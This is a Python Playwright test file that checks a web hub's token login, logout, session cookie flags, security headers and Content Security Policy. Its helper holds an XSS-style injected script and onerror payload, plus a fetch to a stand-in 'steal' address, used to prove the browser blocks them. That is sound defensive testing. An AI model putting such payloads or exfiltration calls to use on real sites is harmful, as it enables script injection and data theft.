"""Somebody logs in with a token, sees who they are, and logs out, in a real browser under its policies."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from meshhub.testing.hub import RunningHub, running_hub

pytestmark = pytest.mark.browser

TOKEN = "a-token-for-the-browser"


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHub]:
    tokens = {"NAME": "ada", "TOKEN": TOKEN, "ROLE": "viewer"}
    environment = {f"MESHHUB_ACCESS__TOKENS__0__{name}": value for name, value in tokens.items()}
    with running_hub(tmp_path_factory.mktemp("login"), environment=environment) as hub:
        yield hub


def test_a_login_leads_to_where_one_wanted_to_go_and_a_logout_out(browser: Browser, guarded: RunningHub) -> None:
    page = browser.new_page(viewport={"width": 1440, "height": 900})
    page.set_default_timeout(20_000)
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    answer = page.goto(f"{guarded.url}/ui/logs?window=1h")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "script" not in policy
    assert "frame-ancestors 'none'" in policy
    page.get_by_label("Token").fill("wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_have_text("This token is not known, or has expired.")
    page.get_by_label("Token").fill(TOKEN)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{guarded.url}/ui/logs?window=1h")
    expect(page.locator("#frame-who")).to_contain_text("ada")
    (cookie,) = [each for each in page.context.cookies() if each["name"] == "meshhub_session"]
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    assert not [text for text in refused if "Content Security Policy" in text]
    _pages_are_locked(page)
    page.get_by_role("button", name="Log out ada").click()
    page.wait_for_url(f"{guarded.url}/login")
    page.goto(f"{guarded.url}/ui/")
    expect(page.get_by_label("Token")).to_be_visible()
    page.close()


HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
INJECTED = """() => {
    const script = document.createElement("script");
    script.textContent = "window.injected = true";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.injected = true");
    image.src = "data:image/png;base64,broken";
    document.body.append(image);
    return new Promise(done => image.addEventListener("error", () => done(window.injected === true)));
}"""
REACHES_OUT = """() => fetch("http://198.51.100.1/steal", {mode: "no-cors"}).then(() => "reached", e => String(e))"""


def _pages_are_locked(page: Page) -> None:
    """What the headers say is what the browser does: no script of data's, no other host, no frame around it."""
    answer = page.reload()
    assert answer is not None
    for name, value in HEADERS.items():
        assert answer.headers[name] == value, name
    rules = dict(rule.strip().partition(" ")[::2] for rule in answer.headers["content-security-policy"].split(";"))
    assert "'unsafe-inline'" not in rules["script-src"]
    assert "'unsafe-eval'" not in rules["script-src"]
    assert rules["frame-ancestors"] == "'none'"
    assert rules["base-uri"] == "'none'"
    assert page.evaluate(INJECTED) is False
    assert "TypeError" in page.evaluate(REACHES_OUT)
    browser = page.context.browser
    assert browser is not None
    frame = browser.new_page()  # nobody is logged in there: the login page may not be framed either
    frame.set_content(f'<iframe src="{page.url}"></iframe>')
    assert frame.frames[-1].get_by_label("Token").count() == 0
    frame.close()
